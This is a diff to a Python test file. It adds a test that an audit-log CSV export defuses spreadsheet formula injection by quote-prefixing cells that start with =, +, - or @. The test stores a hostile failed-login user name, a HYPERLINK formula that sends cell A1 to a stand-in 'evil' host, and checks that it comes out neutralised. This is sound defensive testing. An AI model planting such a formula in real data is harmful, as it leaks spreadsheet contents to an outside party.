@@ -117,3 +117,16 @@ def test_export_csv_with_bom_is_audited(client, records, audit_admin):
     rec = AuditRecord.objects.get(event="audit.exported")
     assert rec.actor_id == audit_admin.pk and rec.new["rows"] == 2 and rec.new["actor"] == "zhang"
     assert audit.verify().ok
+
+
+def test_export_keeps_typed_text_from_becoming_a_spreadsheet_formula(client, audit_admin):
+    # a failed login records whatever the visitor typed as the user name
+    audit.record("identity.login_failed", actor_name='=HYPERLINK("http://evil/?x="&A1,"x")', success=False)
+    audit.record("identity.key_added", actor_name="clerk", object_repr="@SUM(1+1)", message="-2+3")
+    client.force_login(audit_admin)
+    body = b"".join(client.get(EXPORT).streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'=HYPERLINK(\"http://evil/?x=\"&A1,\"x\")" in cells
+    assert "'@SUM(1+1)" in cells and "'-2+3" in cells
+    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
